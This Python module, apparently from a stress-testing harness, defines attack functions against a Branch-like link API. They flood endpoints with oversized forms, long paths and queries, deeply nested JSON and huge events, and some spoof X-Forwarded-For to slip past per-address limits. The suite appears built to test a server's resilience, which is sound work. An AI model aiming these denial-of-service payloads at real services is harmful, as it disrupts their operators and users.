"""Long forms, queries, paths and JSON."""

import base64
import itertools
import json
from multiprocessing.pool import ThreadPool

from attacks.registry import attack
from attacks.sending import IPHONE, flood, from_addresses, lasting, rounds
from traffic import PROCESSES, Outcome, pipeline, request


@attack
def forms_of_many_fields(target, until, number):
    """100,000 fields in a form"""
    body = b"a=b&" * 100_000
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    return flood(target, until, [request("POST", path, body, form) for path in ("/v1/open", "/v1/url", "/v1/event", "/v1/redeem")])


@attack
def queries_of_many_fields(target, until, number):
    """15,000 fields in a query"""
    query = "a=b&" * 15_000
    return flood(target, until, [request("GET", path + query) for path in ("/v1/credits?", "/v1/deepview?", "/_strong_match?")])


@attack
def long_paths(target, until, number):
    """paths of 16 and 60 KB below routes of the API, as calls of other addresses"""
    paths = ["/api/v1/analytics/reports/x/", "/api/v1/analytics/ltv/", "/v1/branch_aggregate/async/status/x/", "/v1/gdpr/", "/"]
    requests = [
        request("GET", path + "a" * length, headers={"X-Forwarded-For": address})
        for address, path, length in zip(from_addresses(number, 50), paths * 10, (16_000, 60_000, 16_000) * 17)]
    return flood(target, until, requests)


@attack
def visits_of_many_items(target, until, number):
    """visits with 8,000 empty items in the query"""
    queries = ["a&" * 8000, "&" * 16_000, "%61=&" * 3000]
    return flood(target, until, [request("GET", f"{target.visit}?{query}", headers={"User-Agent": IPHONE}) for query in queries])


@attack
def visits_of_long_queries(target, until, number):
    """visits from 200 addresses of one network at once, with 256 items in 14 KB of query"""
    query = "&".join(f"item{item:03}={'g' * 45}" for item in range(256))
    senders = [{"X-Forwarded-For": f"198.19.{number}.{host}", "User-Agent": IPHONE} for host in range(1, 1 + min(200, target.at_once))]
    return rounds(target, until, [[request("GET", f"{target.visit}?{query}", headers=sender)] for sender in senders])


@attack
def items_appended_to_large_links(target, until, number):
    """visits of eight networks at once that append an item to links with 250 URLs, or with 4,000 items in one, or whose redirect is long"""
    urls = {f"$ios_url_{index}": f"https://shop{index}.example.com" for index in range(250)}
    items = {"$fallback_url": "https://shop.example.com/?" + "%75&" * 2000, "~campaign": "pears"}
    ways = [(urls, "?$ios_url=", IPHONE), (items, "?x=1", IPHONE), (items | {"$og_redirect": items["$fallback_url"]}, "", "Googlebot/2.1")]
    senders = [f"198.20.{10 * number + network}.{host}" for network in range(4) for host in range(1, 1 + target.at_once // 8)]
    requests = []
    for index, (data, query, agent) in enumerate(ways):
        alias = f"appended{number}-{index}"
        pipeline(target.port, [request("POST", "/v1/url", {"branch_key": target.key, "alias": alias, "data": data})], Outcome())
        requests += [request("GET", f"/{alias}{query}", headers={"X-Forwarded-For": sender, "User-Agent": agent}) for sender in senders]
    return rounds(target, until, [[request] for request in requests])


@attack
def deep_and_wide_json(target, until, number):
    """JSON of 500 KB, deep or wide"""
    bodies = [b"[" * 250_000, b"[[0]," * 100_000, b'{"a":' * 80_000, b'{"":0,' * 80_000, b'"' + b"\\u0000" * 80_000]
    return flood(target, until, [request("POST", "/v2/event/custom", body) for body in bodies])


@attack
def many_identifiers(target, until, number):
    """old events that list one identifier 3,000 times, described by 170 KB of JSON text"""
    metadata = {"$canonical_identifier_list": ["a"] * 3000, "a": json.dumps({f"key{index}": index for index in range(10_000)})}
    event = {"branch_key": target.key, "event": "View", "metadata": metadata}
    return flood(target, until, [request("POST", "/v1/event", event)])


@attack
def long_links(target, until, number):
    """long links of 60 KB, as base64 and as parameters"""
    data = base64.urlsafe_b64encode(json.dumps({f"key{index}": "g" * 40 for index in range(700)}).encode()).decode()
    targets = [f"/a/{target.key}?data={data}", f"/a/{target.key}?" + "%24keywords=pear&" * 900, f"/a/{target.key}?" + "%F0" * 20_000]
    bots = {"User-Agent": "Twitterbot/1.0", "Accept": "text/html"}
    return flood(target, until, [request("GET", path, headers=bots) for path in targets])


@attack
def large_events(target, until, number):
    """events of 450 KB with 7,000 keys, over eight connections of one address"""
    keys = {f"{index:05}" + "g" * 50: 1 for index in range(7000)}
    event = {"branch_key": target.key, "name": "pear", **keys}
    # Not from loopback, which is exempt.
    large = [request("POST", "/v2/event/custom", body, {"X-Forwarded-For": "203.0.113.2"}) for body in (event, event | {"retryNumber": 1})]

    def connection(_):
        outcome = Outcome()
        # All connections together stay below the 256 MiB that an address may store.
        for _ in itertools.islice(lasting(until), 25):
            pipeline(target.port, large, outcome)
        return outcome

    outcome = Outcome()
    with ThreadPool(8 // PROCESSES) as pool:
        for part in pool.map(connection, range(8 // PROCESSES)):
            outcome.add(part)
    return outcome
